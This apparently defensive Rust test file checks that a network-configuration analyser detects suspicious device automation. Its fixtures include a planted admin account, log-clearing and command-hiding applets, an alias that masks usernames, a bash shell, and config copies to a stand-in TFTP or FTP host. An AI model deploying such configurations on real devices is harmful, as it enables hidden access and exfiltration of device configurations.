use seawall_api::model::{Automation, AutomationKind, EmbeddedCommand};

use crate::sample::{unknown, whole};

fn automation(config: &str) -> Vec<Automation> {
    let reading = whole(config);
    assert!(unknown(&reading).is_empty(), "{:?}", unknown(&reading));
    reading.model.automation
}

fn told(commands: &[EmbeddedCommand]) -> Vec<(&str, &str)> {
    commands.iter().map(|one| (one.action.value().unwrap().as_str(), one.words.value().unwrap().as_str())).collect()
}

#[test]
fn an_applet_keeps_back_the_command_that_it_watches_for() {
    let applet = |last: &str| {
        let config = format!(
            "event manager applet A\n  event cli match \"show run*\"\n  action 1 syslog msg \"x\"\n  action 2 cli clear logging logfile\n{last}"
        );
        automation(&config).remove(0)
    };
    let hidden = applet("");
    assert_eq!((hidden.hides_command.value(), hidden.trigger.value().unwrap().as_str()), (Some(&true), "cli"));
    assert_eq!(told(&hidden.commands), [("clear", "clear logging")]);
    assert_eq!(applet("  action 3 event-default\n").hides_command.value(), Some(&false));
    assert!(applet("  action 3 policy-default\n").hides_command.is_unknown());
}

#[test]
fn commands_of_an_applet_are_read_in_their_mode() {
    let applet = automation(
        "event manager applet B\n  description \"x\"\n  event timer watchdog time 300 name t\n  \
         action 1 cli conf t ; username ops2 password 0 Pl4nted role network-admin\n  action 2 cli end\n  \
         action 3 cli command \"copy running-config tftp://203.0.113.9/n1 vrf management\"\n  action 4 cli run bash id\n  \
         action 5 cli ethanalyzer local interface mgmt write bootflash:tac.pcap\n",
    )
    .remove(0);
    assert_eq!(
        told(&applet.commands),
        [
            ("configure", "configure terminal"),
            ("user", "username"),
            ("configure", "end"),
            ("copy", "copy running-config"),
            ("shell", "run bash"),
            ("capture", "ethanalyzer local")
        ]
    );
    assert_eq!(applet.commands[3].remote.configured().map(String::as_str), Some("203.0.113.9"));
    assert_eq!(applet.commands[5].file.configured().map(String::as_str), Some("tac.pcap"));
    assert_eq!(applet.hides_command.value(), Some(&false));
}

#[test]
fn a_job_runs_where_a_schedule_names_it() {
    let config = "scheduler job name NIGHT\ncopy running-config bootflash:/n1 ;copy bootflash:/n1 tftp://203.0.113.9/n1 vrf management\n\nend-job\n\
                  scheduler job name IDLE\n  reload\n  end-job\nscheduler schedule name DAILY\n  job name NIGHT\n  time daily 1:00\n";
    let reading = whole(config);
    assert!(unknown(&reading).is_empty(), "{:?}", unknown(&reading));
    let [night, idle] = reading.model.automation.as_slice() else { panic!("{:?}", reading.model.automation) };
    assert_eq!((night.kind, night.active, idle.active), (AutomationKind::Scheduler, true, false));
    assert_eq!(told(&night.commands), [("copy", "copy running-config"), ("copy", "copy")]);
    let second = night.commands[1].at;
    assert!(reading.text.slice(second).starts_with("copy bootflash:/n1 tftp"));
    assert_eq!(reading.model.backups[0].server.configured().map(String::as_str), Some("203.0.113.9"));
}

#[test]
fn services_run_once_they_are_activated() {
    let found = automation(
        "virtual-service name guestshell+\n  activate\nvirtual-service probe\n  description x\n  package bootflash:probe.ova\n",
    );
    let [shell, probe] = found.as_slice() else { panic!("{found:?}") };
    assert_eq!((shell.kind, shell.active), (AutomationKind::GuestShell, true));
    assert_eq!((probe.kind, probe.active), (AutomationKind::Container, false));
}

#[test]
fn an_alias_may_mask_a_command() {
    let found = automation(
        "cli alias name show show running-config | exclude username\ncli alias name wr copy running-config startup-config\ncli alias name backup copy running-config bootflash:b\n",
    );
    let masks: Vec<_> = found.iter().map(|one| one.hides_command.value().copied()).collect();
    assert_eq!(masks, [Some(true), Some(false), Some(false)]);
}

#[test]
fn variables_of_the_environment_are_resolved_and_passwords_are_secrets() {
    let reading = whole(
        "event manager environment server \"203.0.113.9\"\nevent manager applet C\n  event none\n  \
         action 1 cli copy running-config ftp://ops:S3cr3t@$server/n1\n",
    );
    let command = &reading.model.automation[0].commands[0];
    assert_eq!(command.remote.configured().map(String::as_str), Some("203.0.113.9"));
    let secret = reading.model.secrets[0].secret.value().unwrap();
    assert_eq!(reading.text.slice(secret.span), "S3cr3t");
}
